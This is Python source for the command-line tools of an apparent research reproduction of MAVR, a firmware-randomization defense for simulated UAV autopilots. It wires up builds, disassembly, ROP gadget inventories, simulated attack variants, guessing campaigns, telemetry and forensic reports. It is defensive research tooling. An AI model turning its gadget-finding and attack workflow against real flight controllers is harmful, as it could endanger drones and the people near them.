            overhead = MavrSystem(mavr, seed=1).boot()
            rows.append((
                manifest.name,
                f"{mavr.function_count()} (paper {PAPER_FUNCTION_COUNTS[manifest.name]})",
                f"{stock.size} (paper {PAPER_STOCK_SIZES[manifest.name]})",
                f"{mavr.size} (paper {PAPER_MAVR_SIZES[manifest.name]})",
                f"{overhead:.0f} ms (paper {PAPER_STARTUP_MS[manifest.name]})",
            ))
        lines.append(format_table(
            ("app", "functions", "stock bytes", "MAVR bytes", "startup"),
            rows,
        ))
        lines.append("")

    lines.append("## Analysis (closed form)")
    rover = entropy_report(800)
    plane = estimate_for(917)
    cost = CostModel().report()
    lines.append(format_table(("metric", "value", "paper"), [
        ("entropy, 800 symbols", f"{rover.shuffle_bits:.0f} bits", "6567 bits"),
        ("brute force, 917 fns", f"~10^{plane.log10_layouts:.0f}", "~917!"),
        ("transfer rate", f"{PROTOTYPE_LINK.bytes_per_ms:.2f} B/ms", "~11 B/ms"),
        ("hardware cost", f"+${cost['extra_usd']} ({cost['increase_pct']}%)",
         "+$11.68 (7.3%)"),
    ]))
    lines.append("")

    lines.append("## Effectiveness (test application)")
    image = build_app(manifest_by_name("testapp"), MAVR_OPTIONS)
    v2 = StealthyAttack(image).execute(Autopilot(image))
    campaign = guessing_campaign(image, attempts=2, seed=1)
    lines.append(format_table(("experiment", "result"), [
        ("V2 vs unprotected", "stealthy success" if v2.stealthy and v2.succeeded
         else "FAILED"),
        ("replay vs MAVR", f"{campaign.effects} effects / "
         f"{campaign.detections} detections in {campaign.attempts} attempts"),
        ("UAV survived campaign", str(campaign.still_flying)),
    ]))

    text = "\n".join(lines) + "\n"
    if args.out:
        with open(args.out, "w", encoding="utf-8") as handle:
            handle.write(text)
        print(f"wrote {args.out}")
    else:
        print(text)
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro.tools",
        description="MAVR reproduction command-line tools",
    )
    subparsers = parser.add_subparsers(dest="command", required=True)

    build_cmd = subparsers.add_parser("build", help="build an application")
    _add_app_argument(build_cmd)
    build_cmd.add_argument("--out", help="write preprocessed HEX here")
    build_cmd.set_defaults(func=_cmd_build)

    info = subparsers.add_parser("info", help="image statistics")
    _add_app_argument(info)
    info.set_defaults(func=_cmd_info)

    disasm = subparsers.add_parser("disasm", help="disassemble")
    _add_app_argument(disasm)
    disasm.add_argument("--function", help="only this function")
    disasm.set_defaults(func=_cmd_disasm)

    gadgets = subparsers.add_parser("gadgets", help="gadget inventory")
    _add_app_argument(gadgets)
    gadgets.set_defaults(func=_cmd_gadgets)

    attack = subparsers.add_parser("attack", help="run an attack simulation")
    _add_app_argument(attack)
    attack.add_argument("--variant", choices=("v1", "v2", "v3"), default="v2")
    attack.set_defaults(func=_cmd_attack)

    defend = subparsers.add_parser("defend", help="guessing campaign vs MAVR")
    _add_app_argument(defend)
    defend.add_argument("--attempts", type=int, default=3)
    defend.add_argument("--seed", type=int, default=0)
    defend.set_defaults(func=_cmd_defend)

    report = subparsers.add_parser(
        "report", help="paper-vs-measured reproduction summary"
    )
    report.add_argument("--full", action="store_true",
                        help="include Tables I-III at full application scale")
    report.add_argument("--out", help="write markdown here instead of stdout")
    report.set_defaults(func=_cmd_report)

    return parser


def main(argv: Optional[List[str]] = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
