"""Command-line interface: ``python -m repro.tools <command>``.

Commands mirror the workflows a user of the original system would have:

* ``build``    — build an application, optionally writing the MAVR
  preprocessed HEX (what goes onto the external flash).
* ``info``     — image statistics (sizes, regions, symbols).
* ``disasm``   — disassemble an application or one function.
* ``gadgets``  — gadget inventory with Fig. 4/5-style listings.
* ``attack``   — run V1/V2/V3 against a simulated board — unprotected by
  default, defended with ``--protected`` — optionally recording the
  full observability stream (``--telemetry out.jsonl``) in either mode.
* ``defend``   — run a guessing campaign against protected boards
  (``--jobs`` fans attempts over a process pool).
* ``attack``/``defend``/``campaign`` take ``--defense
  {mavr,daedalus,ctomp}`` to pick the mitigation backend protecting the
  board (``docs/DEFENSES.md``); the default is the paper's ``mavr``.
* ``campaign`` — fan N attack scenarios over a process pool and print the
  aggregate outcome table (or ``--json`` / ``--jsonl``); ``--progress``
  streams live per-scenario completion lines to stderr.
* ``telemetry``— boot a protected board, force a crash/recovery cycle,
  and dump the metrics/span/event snapshot; ``--profile`` /
  ``--flight-recorder`` fold the profiler and forensic views in.
* ``profile``  — run an application under the PC profiler and print the
  per-function self-cycle table (``--collapsed`` writes flamegraph
  input, ``--mode heatmap`` adds control-flow anomaly detection).
* ``forensics``— render a forensic bundle JSON (written by ``attack
  --forensics`` or frozen by the master at detection time) for humans.

Board construction goes exclusively through :mod:`repro.sim` — the CLI
never wires an ``Autopilot``/``MavrSystem`` by hand.  ``info`` and
``report`` accept ``--json`` for machine-readable output; both reuse the
telemetry snapshot serializer (:func:`repro.telemetry.jsonable`).
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import List, Optional

from ..analysis import format_table, guessing_campaign
from ..asm import disassemble_image
from ..asm.linker import MAVR_OPTIONS, STOCK_OPTIONS
from ..attack import (
    MEMORY_LAYER,
    PROTOCOL_LAYER,
    GadgetFinder,
    attack_kind,
    attack_kinds,
)
from ..avr.engine import DEFAULT_ENGINE, ENGINES
from ..avr.profile import PROFILE_MODES
from ..core.defenses import DEFENSE_BACKENDS
from ..firmware import build_app, manifest_by_name
from ..sim import (
    ATTACK_VARIANTS,
    DEFAULT_SHARDS,
    Board,
    CampaignRunner,
    ScenarioSpec,
    SwarmSpec,
    derive_seed,
    run_scenario,
)

_TOOLCHAINS = {"stock": STOCK_OPTIONS, "mavr": MAVR_OPTIONS}

#: ``attack --variant`` choices: the memory-tier kinds that exploit the
#: spec's own board directly (the guessing/oracle kinds need campaign
#: seed derivation and live behind ``campaign``/``defend`` instead)
VARIANT_CHOICES = tuple(
    kind.name for kind in attack_kinds(MEMORY_LAYER)
    if "attack_seed" not in kind.required_fields
)

#: ``campaign --attack`` choices: every registered kind except the
#: oracle (which requires an unprotected board and a dedicated driver)
CAMPAIGN_ATTACK_CHOICES = tuple(
    name for name in ATTACK_VARIANTS if name != "oracle"
)


def _add_engine_argument(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--engine", choices=tuple(ENGINES), default=DEFAULT_ENGINE,
        help="execution engine for the application processor "
             f"(default: {DEFAULT_ENGINE})",
    )


def _add_defense_argument(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--defense", choices=DEFENSE_BACKENDS, default="mavr",
        help="defense backend protecting the board (default: mavr)",
    )


def _add_app_argument(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "app",
        choices=("testapp", "arduplane", "arducopter", "ardurover"),
        help="application to operate on",
    )
    parser.add_argument(
        "--toolchain", choices=tuple(_TOOLCHAINS), default="mavr",
        help="toolchain flag set (default: mavr, the randomizable build)",
    )


def _load(args: argparse.Namespace):
    return build_app(manifest_by_name(args.app), _TOOLCHAINS[args.toolchain])


def _cmd_build(args: argparse.Namespace) -> int:
    image = _load(args)
    print(f"built {image.name}: {image.size} bytes, "
          f"{image.function_count()} functions [{image.toolchain_tag}]")
    if args.out:
        from ..core import preprocess

        hex_text = preprocess(image)
        with open(args.out, "w", encoding="ascii") as handle:
            handle.write(hex_text)
        print(f"wrote preprocessed HEX to {args.out} ({len(hex_text)} bytes)")
    return 0


def _cmd_info(args: argparse.Namespace) -> int:
    image = _load(args)
    if args.json:
        from ..telemetry import jsonable

        print(json.dumps(jsonable({
            "name": image.name,
            "toolchain": image.toolchain_tag,
            "size_bytes": image.size,
            "fixed_region": {"start": 0, "end": image.text_start},
            "text": {"start": image.text_start, "end": image.text_end},
            "data": {"start": image.data_start, "end": image.data_end},
            "functions": image.function_count(),
            "funcptr_slots": len(image.funcptr_locations),
            "entry": image.entry_symbol,
        }), indent=2))
        return 0
    rows = [
        ("name", image.name),
        ("toolchain", image.toolchain_tag),
        ("total size", f"{image.size} B"),
        ("fixed region", f"0x00000-0x{image.text_start:05x}"),
        (".text", f"0x{image.text_start:05x}-0x{image.text_end:05x} "
                  f"({image.text_end - image.text_start} B)"),
        (".data", f"0x{image.data_start:05x}-0x{image.data_end:05x} "
                  f"({image.data_end - image.data_start} B)"),
        ("functions", str(image.function_count())),
        ("funcptr slots", str(len(image.funcptr_locations))),
        ("entry", image.entry_symbol),
    ]
    print(format_table(("property", "value"), rows))
    return 0


def _cmd_disasm(args: argparse.Namespace) -> int:
    image = _load(args)
    print(disassemble_image(image, args.function))
    return 0


def _cmd_gadgets(args: argparse.Namespace) -> int:
    from ..asm import disassemble

    image = _load(args)
    finder = GadgetFinder(image)
    print(f"{finder.count()} gadgets ending in ret\n")
    stk = finder.find_stk_move()
    print(f"stk_move at 0x{stk.entry:05x} (pops {stk.pop_regs}):")
    print("\n".join(disassemble(image.code, stk.entry, stk.entry + 14)))
    wm = finder.find_write_mem()
    print(f"\nwrite_mem_gadget: std half 0x{wm.std_entry:05x}, "
          f"pop half 0x{wm.pop_entry:05x}, {wm.pop_bytes} pops:")
    print("\n".join(disassemble(image.code, wm.std_entry, wm.pop_entry + 8)))
    return 0


def _attack_result_rows(result) -> list:
    return [
        ("attack", result.spec.attack),
        ("bytes delivered", str(result.delivered_bytes)),
        ("write landed", str(result.succeeded)),
        ("board status", result.status),
        ("telemetry after", f"{result.telemetry_frames_after} frames"),
        ("ground station alarm", str(result.link_lost)),
        ("verdict", "STEALTHY" if result.stealthy else "DETECTED/FAILED"),
    ]


def _cmd_attack(args: argparse.Namespace) -> int:
    """One scenario, protected or not — a single code path for both.

    Against a bare board the attack's own delivery protocol observes the
    aftermath (the paper's §IV demonstration); with ``--protected`` the
    payload lands on a randomized layout and the master's
    detect/re-randomize cycle plays out under supervision.  Either way
    ``--telemetry PATH`` streams the event log to PATH and writes the
    metrics/span snapshot next to it.
    """
    if args.toolchain != "mavr":
        print("note: attacks are normally demonstrated on the mavr build",
              file=sys.stderr)
    spec = ScenarioSpec(
        app=args.app,
        toolchain=args.toolchain,
        protected=args.protected,
        defense=args.defense,
        engine=args.engine,
        seed=args.seed,
        attack=args.variant,
        warmup_ticks=20 if args.protected else 10,
        observe_ticks=150 if args.protected else 30,
        watch_every=5,
        telemetry=bool(args.telemetry),
        # the forensic bundle wants the gadget heatmap's anomaly records
        profile="heatmap" if args.forensics else None,
        flight_recorder=bool(args.forensics),
    )
    telemetry = None
    if args.telemetry:
        from ..telemetry import Telemetry

        telemetry = Telemetry(enabled=True, jsonl_path=args.telemetry)
    try:
        result = run_scenario(spec, telemetry=telemetry)
        snapshot_path = None
        if telemetry is not None:
            snapshot_path = args.telemetry + ".snapshot.json"
            telemetry.write_snapshot(snapshot_path)
    finally:
        if telemetry is not None:
            telemetry.close()

    rows = _attack_result_rows(result)
    if args.protected:
        rows += [
            ("defense detections", str(result.attacks_detected)),
            ("re-randomizations", str(result.randomizations)),
        ]
    if snapshot_path is not None:
        rows += [("event log", args.telemetry), ("snapshot", snapshot_path)]
    if args.forensics:
        rows.append(("profile anomalies", str(result.profile_anomalies)))
        if result.forensics is not None:
            from ..telemetry import jsonable

            with open(args.forensics, "w", encoding="utf-8") as handle:
                json.dump(jsonable(result.forensics), handle, indent=2)
                handle.write("\n")
            rows.append(("forensic bundle", args.forensics))
        else:
            rows.append(
                ("forensic bundle", "not triggered (no fault/detection/anomaly)")
            )
    board_kind = f"{args.defense}-protected" if args.protected else "unprotected"
    print(format_table(
        ("field", "value"), rows,
        title=f"{args.variant} vs {board_kind} {args.app}",
    ))
    # unprotected: the attack should land; protected: it should not
    if args.protected:
        return 0 if not result.effect else 1
    return 0 if result.succeeded else 1


def _campaign_result_dict(result) -> dict:
    return {
        "attempts": result.attempts,
        "effects": result.effects,
        "detections": result.detections,
        "effect_rate": result.effect_rate,
        "detection_rate": result.detection_rate,
        "randomizations_consumed": result.randomizations_consumed,
        "still_flying": result.still_flying,
        "per_attempt_detected": result.per_attempt_detected,
    }


def _cmd_defend(args: argparse.Namespace) -> int:
    image = _load(args)
    result = guessing_campaign(
        image, attempts=args.attempts, seed=args.seed, parallelism=args.jobs,
        defense=args.defense,
    )
    if args.json:
        print(json.dumps(_campaign_result_dict(result), indent=2))
        return 0 if result.effects == 0 else 1
    rows = [
        ("attempts", str(result.attempts)),
        ("exploit effects", str(result.effects)),
        ("detections", str(result.detections)),
        ("layouts consumed", str(result.randomizations_consumed)),
        ("UAV still flying", str(result.still_flying)),
    ]
    print(format_table(("field", "value"), rows,
                       title="guessing campaign vs MAVR"))
    return 0 if result.effects == 0 else 1


def _cmd_campaign(args: argparse.Namespace) -> int:
    """Fan ``-n`` attack scenarios over a process pool and aggregate.

    Every scenario gets its own board seed and attacker seed derived from
    ``--seed`` (BLAKE2b, stable across processes), so the same invocation
    always produces the same aggregates and JSONL records at any
    ``--jobs`` level — and, because the artifact cache and the checkpoint
    replay change host time only, at any ``--cache-dir``/``--resume``
    setting too.
    """
    if getattr(args, "campaign_command", None) == "serve":
        return _cmd_campaign_serve(args)
    if args.resume and args.checkpoint_dir is None:
        print("campaign: --resume requires --checkpoint-dir", file=sys.stderr)
        return 2
    kind = attack_kind(args.attack)
    if args.swarm:
        if kind.layer != PROTOCOL_LAYER:
            print(
                f"campaign: --swarm plays protocol-layer attack kinds only; "
                f"{args.attack!r} is {kind.layer}-layer",
                file=sys.stderr,
            )
            return 2
        specs = [
            SwarmSpec(
                app=args.app,
                toolchain=args.toolchain,
                defense=args.defense,
                engine=args.engine,
                boards=args.swarm,
                seed=derive_seed(args.seed, index, "board"),
                attack=args.attack,
                attack_seed=derive_seed(args.seed, index, "attack"),
                label=f"{args.attack}-swarm-{index}",
                worker_fault_marker=args.inject_worker_fault,
            )
            for index in range(args.count)
        ]
    else:
        specs = [
            ScenarioSpec(
                app=args.app,
                toolchain=args.toolchain,
                defense=args.defense,
                engine=args.engine,
                seed=derive_seed(args.seed, index, "board"),
                attack=args.attack,
                attack_seed=derive_seed(args.seed, index, "attack"),
                label=f"{args.attack}-{index}",
                worker_fault_marker=args.inject_worker_fault,
            )
            for index in range(args.count)
        ]
    progress = None
    if args.progress:
        labels = [spec.label for spec in specs]

        def progress(done: int, total: int, index: int, outcome: str) -> None:
            print(f"[{done}/{total}] {labels[index]} {outcome}",
                  file=sys.stderr, flush=True)

    runner = CampaignRunner(
        jobs=args.jobs, timeout_s=args.timeout, jsonl_path=args.jsonl,
        progress=progress, cache_dir=args.cache_dir,
        checkpoint_dir=args.checkpoint_dir, shards=args.shards,
        resume=args.resume,
    )
    report = runner.run(specs)
    aggregates = report.aggregates
    if args.json:
        from ..telemetry import jsonable

        print(json.dumps(jsonable({
            "app": args.app,
            "attack": args.attack,
            "seed": args.seed,
            "aggregates": aggregates,
            "phases": report.phases,
            "runner": report.runner,
        }), indent=2))
    else:
        rows = [(key, str(value)) for key, value in aggregates.items()
                if key != "by_outcome"]
        rows += [(f"outcome[{name}]", str(count))
                 for name, count in aggregates["by_outcome"].items()]
        rows += [
            (f"phase[{name}]",
             f"{cell['sim_ms']:.1f} sim-ms / {cell['host_ms']:.0f} host-ms "
             f"({cell['scenarios']} scenarios)")
            for name, cell in report.phases.items()
        ]
        print(format_table(
            ("field", "value"), rows,
            title=f"{args.attack} campaign vs {args.defense}-protected {args.app} "
                  f"({args.jobs} jobs)",
        ))
        if args.jsonl:
            print(f"wrote per-scenario records to {args.jsonl}")
    if kind.layer == PROTOCOL_LAYER:
        # link attacks are expected to land — the defense backend guards
        # the firmware, not the channel; the detector's job is to *flag*
        # them, so only runner errors fail a protocol campaign
        return 0 if aggregates["errors"] == 0 else 1
    return 0 if aggregates["effects"] == 0 and aggregates["errors"] == 0 else 1


def _cmd_campaign_serve(args: argparse.Namespace) -> int:
    """Run the stdlib-only campaign job server until interrupted."""
    import asyncio

    from ..sim.serve import CampaignServer

    server = CampaignServer(
        host=args.host, port=args.port, default_jobs=args.jobs,
        cache_dir=args.cache_dir,
    )

    async def _serve() -> None:
        await server.start()
        print(f"campaign server listening on {server.host}:{server.port}",
              file=sys.stderr, flush=True)
        await server.serve_forever()

    try:
        asyncio.run(_serve())
    except KeyboardInterrupt:
        pass
    return 0


def _report_data(full: bool) -> dict:
    """Gather the paper-vs-measured report as one plain data structure.

    Shared by the markdown and ``--json`` renderings of ``report``; the
    JSON path serializes this dict with the telemetry snapshot serializer.
    """
    from ..analysis import entropy_report, estimate_for
    from ..hw import CostModel, PROTOTYPE_LINK
    from ..firmware import (
        ALL_APPS,
        PAPER_FUNCTION_COUNTS,
        PAPER_MAVR_SIZES,
        PAPER_STARTUP_MS,
        PAPER_STOCK_SIZES,
    )

    data: dict = {}
    if full:
        apps = []
        for manifest in ALL_APPS:
            stock = build_app(manifest, STOCK_OPTIONS)
            mavr = build_app(manifest, MAVR_OPTIONS)
            board = Board(
                ScenarioSpec(app=manifest.name, toolchain="mavr", seed=1),
                image=mavr,
            )
            overhead = board.boot()
            apps.append({
                "app": manifest.name,
                "functions": mavr.function_count(),
                "functions_paper": PAPER_FUNCTION_COUNTS[manifest.name],
                "stock_bytes": stock.size,
                "stock_bytes_paper": PAPER_STOCK_SIZES[manifest.name],
                "mavr_bytes": mavr.size,
                "mavr_bytes_paper": PAPER_MAVR_SIZES[manifest.name],
                "startup_ms": overhead,
                "startup_ms_paper": PAPER_STARTUP_MS[manifest.name],
            })
        data["tables"] = apps

    rover = entropy_report(800)
    plane = estimate_for(917)
    cost = CostModel().report()
    data["analysis"] = {
        "entropy_800_symbols_bits": rover.shuffle_bits,
        "entropy_paper_bits": 6567,
        "brute_force_917_fns_log10_layouts": plane.log10_layouts,
        "transfer_rate_bytes_per_ms": PROTOTYPE_LINK.bytes_per_ms,
        "hardware_cost": cost,
    }

    image = build_app(manifest_by_name("testapp"), MAVR_OPTIONS)
    v2 = run_scenario(ScenarioSpec(
        app="testapp", protected=False, attack="v2", observe_ticks=30,
    ))
    campaign = guessing_campaign(image, attempts=2, seed=1)
    data["effectiveness"] = {
        "v2_vs_unprotected_stealthy": v2.stealthy and v2.succeeded,
        "campaign_attempts": campaign.attempts,
        "campaign_effects": campaign.effects,
        "campaign_detections": campaign.detections,
        "uav_survived_campaign": campaign.still_flying,
    }

    # where a small reference campaign spends its simulated time, phase
    # by phase (deterministic fields only — see docs/SCENARIOS.md)
    from ..sim import deterministic_phases

    phase_report = CampaignRunner(jobs=1).run([
        ScenarioSpec(
            app="testapp",
            seed=derive_seed(1, index, "board"),
            attack="v2",
            attack_seed=derive_seed(1, index, "attack"),
            label=f"v2-{index}",
        )
        for index in range(2)
    ])
    data["campaign_phases"] = deterministic_phases(phase_report.phases)
    return data


def _cmd_report(args: argparse.Namespace) -> int:
    """Paper-vs-measured summary (Tables I-III need --full)."""
    data = _report_data(args.full)

    if args.json:
        from ..telemetry import jsonable

        text = json.dumps(jsonable(data), indent=2) + "\n"
        if args.out:
            with open(args.out, "w", encoding="utf-8") as handle:
                handle.write(text)
            print(f"wrote {args.out}")
        else:
            print(text, end="")
        return 0

    lines = ["# MAVR reproduction report", ""]
    if "tables" in data:
        lines.append("## Table I/II/III (measured)")
        rows = [
            (
                app["app"],
                f"{app['functions']} (paper {app['functions_paper']})",
                f"{app['stock_bytes']} (paper {app['stock_bytes_paper']})",
                f"{app['mavr_bytes']} (paper {app['mavr_bytes_paper']})",
                f"{app['startup_ms']:.0f} ms (paper {app['startup_ms_paper']})",
            )
            for app in data["tables"]
        ]
        lines.append(format_table(
            ("app", "functions", "stock bytes", "MAVR bytes", "startup"),
            rows,
        ))
        lines.append("")

    lines.append("## Analysis (closed form)")
    analysis = data["analysis"]
    cost = analysis["hardware_cost"]
    lines.append(format_table(("metric", "value", "paper"), [
        ("entropy, 800 symbols",
         f"{analysis['entropy_800_symbols_bits']:.0f} bits", "6567 bits"),
        ("brute force, 917 fns",
         f"~10^{analysis['brute_force_917_fns_log10_layouts']:.0f}", "~917!"),
        ("transfer rate",
         f"{analysis['transfer_rate_bytes_per_ms']:.2f} B/ms", "~11 B/ms"),
        ("hardware cost", f"+${cost['extra_usd']} ({cost['increase_pct']}%)",
         "+$11.68 (7.3%)"),
    ]))
    lines.append("")

    lines.append("## Effectiveness (test application)")
    eff = data["effectiveness"]
    lines.append(format_table(("experiment", "result"), [
        ("V2 vs unprotected",
         "stealthy success" if eff["v2_vs_unprotected_stealthy"] else "FAILED"),
        ("replay vs MAVR", f"{eff['campaign_effects']} effects / "
         f"{eff['campaign_detections']} detections in "
         f"{eff['campaign_attempts']} attempts"),
        ("UAV survived campaign", str(eff["uav_survived_campaign"])),
    ]))

    text = "\n".join(lines) + "\n"
    if args.out:
        with open(args.out, "w", encoding="utf-8") as handle:
            handle.write(text)
        print(f"wrote {args.out}")
    else:
        print(text)
    return 0


def _cmd_telemetry(args: argparse.Namespace) -> int:
    """Boot a protected board, force one crash/recovery, dump the snapshot.

    The forced wild jump plays the same scenario as the watchdog-recovery
    integration test: the master notices the crashed (or silent) application
    processor, re-randomizes, differentially reflashes, and reboots — so
    the snapshot always contains the full causal chain (``watchdog.starved``
    / ``attack.detected`` events, a nested ``mavr.rerandomize`` span, and
    per-page ``flash.page_reflashed`` events) plus the CPU/ISP metrics.
    """
    from ..telemetry import Telemetry

    spec = ScenarioSpec(
        app=args.app,
        toolchain=args.toolchain,
        engine=args.engine,
        seed=args.seed,
        warmup_ticks=args.ticks,
        observe_ticks=150,
        watch_every=5,
        fault="wild_jump",
        telemetry=True,
        profile=args.profile,
        flight_recorder=args.flight_recorder,
    )
    tel = Telemetry(enabled=True, jsonl_path=args.jsonl)
    try:
        board = Board(spec, telemetry=tel)
        board.boot()
        board.attach_observers()
        board.run(spec.warmup_ticks)
        board.inject_fault()
        board.run(spec.observe_ticks, spec.watch_every)
        snapshot = tel.snapshot()
        if board.profiler is not None:
            snapshot["profile"] = board.profiler.snapshot()
        if board.recorder is not None:
            snapshot["forensics"] = board.forensic_bundle(
                "telemetry crash/recovery demo", kind="cpu_fault"
            )
        report = board.report()
    finally:
        tel.close()

    if args.out:
        from ..telemetry import jsonable

        with open(args.out, "w", encoding="utf-8") as handle:
            json.dump(jsonable(snapshot), handle, indent=2)
            handle.write("\n")

    rows = [
        ("boots", str(report.boots)),
        ("re-randomizations", str(report.randomizations)),
        ("attacks detected", str(report.attacks_detected)),
        ("metrics", str(len(snapshot["metrics"]))),
        ("spans", str(len(snapshot["spans"]))),
        ("events", str(len(snapshot["events"]))),
    ]
    if "profile" in snapshot:
        rows.append(("profile anomalies",
                     str(snapshot["profile"]["anomaly_count"])))
    if "forensics" in snapshot:
        rows.append(("forensic bundle",
                     f"{snapshot['forensics']['kind']} "
                     f"@pc=0x{snapshot['forensics']['cpu']['pc_bytes']:05x}"))
    if args.jsonl:
        rows.append(("event log", args.jsonl))
    if args.out:
        rows.append(("snapshot", args.out))
    print(format_table(("field", "value"), rows,
                       title=f"telemetry: crash/recovery on {args.app}"))
    if not args.out and not args.jsonl:
        from ..telemetry import jsonable

        print(json.dumps(jsonable(snapshot), indent=2))
    return 0


def _cmd_profile(args: argparse.Namespace) -> int:
    """Run an application under the PC profiler and print hot functions.

    ``--mode exact`` attributes every retired instruction; ``block``
    keeps the superblock engines on their fast path (block-entry
    attribution, see docs/OBSERVABILITY.md for the accuracy contract);
    ``heatmap`` additionally shadows the call stack and flags retired
    control flow that no legitimate call chain explains.
    """
    spec = ScenarioSpec(
        app=args.app,
        toolchain=args.toolchain,
        protected=args.protected,
        engine=args.engine,
        seed=args.seed,
        profile=args.mode,
    )
    board = Board(spec)
    board.boot()
    board.attach_observers()
    board.run(args.ticks)
    profiler = board.profiler
    if args.collapsed:
        with open(args.collapsed, "w", encoding="utf-8") as handle:
            handle.write(profiler.collapsed_text() + "\n")
    if args.json:
        from ..telemetry import jsonable

        print(json.dumps(jsonable(profiler.snapshot()), indent=2))
        return 0
    from ..telemetry import format_profile_table

    print(format_profile_table(profiler.report(), top=args.top))
    if args.mode == "heatmap":
        print(f"\nprofile anomalies: {profiler.anomaly_count}")
    if args.collapsed:
        print(f"wrote collapsed stacks to {args.collapsed}")
    return 0


def _render_forensics(bundle: dict) -> str:
    """Human rendering of a flight-recorder bundle (plain builtins in,
    text out — shared by the ``forensics`` command and nothing else, so
    it tolerates bundles with optional sections missing)."""
    cpu = bundle["cpu"]
    lines = [
        f"# forensic bundle: {bundle.get('kind', 'manual')}",
        f"reason: {bundle.get('reason', '?')}",
        "",
        f"pc=0x{cpu['pc_bytes']:05x}  sp=0x{cpu['sp']:04x}  "
        f"sreg=0x{cpu['sreg']:02x}  cycles={cpu['cycles']}  "
        f"retired={cpu['instructions_retired']}  engine={cpu['engine']}"
        + ("  [HALTED]" if cpu.get("halted") else ""),
    ]
    if bundle.get("function"):
        lines.append(f"faulting function: {bundle['function']}")
    lines.append("")

    lines.append("## registers")
    registers = bundle.get("registers", [])
    for row in range(0, len(registers), 8):
        cells = "  ".join(
            f"r{index:<2}=0x{value:02x}"
            for index, value in enumerate(registers[row : row + 8], start=row)
        )
        lines.append("  " + cells)
    lines.append("")

    stack = bundle.get("stack")
    if stack:
        lines.append(f"## stack window (sp=0x{stack['sp']:04x})")
        data = bytes.fromhex(stack["data_hex"])
        for row_start in range(0, len(data), 8):
            row = data[row_start : row_start + 8]
            addr = stack["base_address"] + row_start
            lines.append(
                f"  0x{addr:06x}: " + " ".join(f"{b:02x}" for b in row)
            )
        lines.append("")

    disassembly = bundle.get("disassembly", [])
    if disassembly:
        lines.append("## fault neighbourhood")
        for entry in disassembly:
            marker = ">" if entry.get("current") else " "
            lines.append(f" {marker} 0x{entry['pc']:05x}: {entry['text']}")
        lines.append("")

    ring = bundle.get("ring", [])
    if ring:
        lines.append(f"## flight recorder (last {min(len(ring), 16)} "
                     f"of {len(ring)} retired states)")
        lines.append("   pc       sp      sreg  cycles")
        for pc, sp, sreg, cycles in ring[-16:]:
            lines.append(
                f"   0x{pc:05x}  0x{sp:04x}  0x{sreg:02x}  {cycles}"
            )
        lines.append("")

    profile = bundle.get("profile")
    if profile:
        lines.append(
            f"## profile ({profile['mode']} mode, "
            f"{profile['anomaly_count']} anomalies)"
        )
        for anomaly in profile.get("anomalies", []):
            target_fn = anomaly.get("target_function") or "?"
            lines.append(
                f"  {anomaly['kind']}: 0x{anomaly['from_pc']:05x} -> "
                f"0x{anomaly['target_pc']:05x} ({target_fn}) "
                f"@cycle {anomaly['cycle']}"
            )
        lines.append("")

    events = bundle.get("events")
    if events:
        lines.append(f"## recent telemetry events ({len(events)})")
        for event in events[-10:]:
            lines.append(f"  {event.get('event', '?')}")
    return "\n".join(lines).rstrip() + "\n"


def _cmd_forensics(args: argparse.Namespace) -> int:
    with open(args.bundle, "r", encoding="utf-8") as handle:
        bundle = json.load(handle)
    print(_render_forensics(bundle), end="")
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro.tools",
        description="MAVR reproduction command-line tools",
    )
    subparsers = parser.add_subparsers(dest="command", required=True)

    build_cmd = subparsers.add_parser("build", help="build an application")
    _add_app_argument(build_cmd)
    build_cmd.add_argument("--out", help="write preprocessed HEX here")
    build_cmd.set_defaults(func=_cmd_build)

    info = subparsers.add_parser("info", help="image statistics")
    _add_app_argument(info)
    info.add_argument("--json", action="store_true",
                      help="machine-readable JSON output")
    info.set_defaults(func=_cmd_info)

    disasm = subparsers.add_parser("disasm", help="disassemble")
    _add_app_argument(disasm)
    disasm.add_argument("--function", help="only this function")
    disasm.set_defaults(func=_cmd_disasm)

    gadgets = subparsers.add_parser("gadgets", help="gadget inventory")
    _add_app_argument(gadgets)
    gadgets.set_defaults(func=_cmd_gadgets)

    attack = subparsers.add_parser("attack", help="run an attack simulation")
    _add_app_argument(attack)
    attack.add_argument("--variant", choices=VARIANT_CHOICES, default="v2")
    attack.add_argument(
        "--protected", action="store_true",
        help="attack a defended board instead of a bare autopilot",
    )
    attack.add_argument(
        "--telemetry", metavar="PATH",
        help="record the event log to PATH (JSONL) and the metrics/span "
             "snapshot to PATH.snapshot.json (works for both board kinds)",
    )
    attack.add_argument("--seed", type=int, default=1,
                        help="board randomization seed (--protected)")
    attack.add_argument(
        "--forensics", metavar="PATH",
        help="run with the gadget heatmap + flight recorder attached and "
             "write the forensic bundle JSON to PATH (render it with "
             "'repro.tools forensics PATH')",
    )
    _add_defense_argument(attack)
    _add_engine_argument(attack)
    attack.set_defaults(func=_cmd_attack)

    defend = subparsers.add_parser("defend", help="guessing campaign vs MAVR")
    _add_app_argument(defend)
    defend.add_argument("--attempts", type=int, default=3)
    defend.add_argument("--seed", type=int, default=0)
    defend.add_argument("--jobs", type=int, default=1,
                        help="process-pool workers (1 = run inline)")
    defend.add_argument("--json", action="store_true",
                        help="machine-readable JSON output")
    _add_defense_argument(defend)
    defend.set_defaults(func=_cmd_defend)

    campaign = subparsers.add_parser(
        "campaign",
        help="fan N attack scenarios over a process pool and aggregate",
    )
    campaign.add_argument(
        "--app",
        choices=("testapp", "arduplane", "arducopter", "ardurover"),
        default="testapp", help="application under attack",
    )
    campaign.add_argument(
        "--toolchain", choices=tuple(_TOOLCHAINS), default="mavr",
        help="toolchain flag set (default: mavr, the randomizable build)",
    )
    campaign.add_argument(
        "--attack", choices=CAMPAIGN_ATTACK_CHOICES,
        default="guess", help="attack kind every scenario runs",
    )
    campaign.add_argument("-n", "--count", type=int, default=10,
                          help="number of scenarios")
    campaign.add_argument(
        "--swarm", type=int, default=0, metavar="N",
        help="fly each scenario as a swarm of N boards under one ground "
             "station (protocol-layer attack kinds only; 0 = single board)",
    )
    campaign.add_argument("--jobs", type=int, default=1,
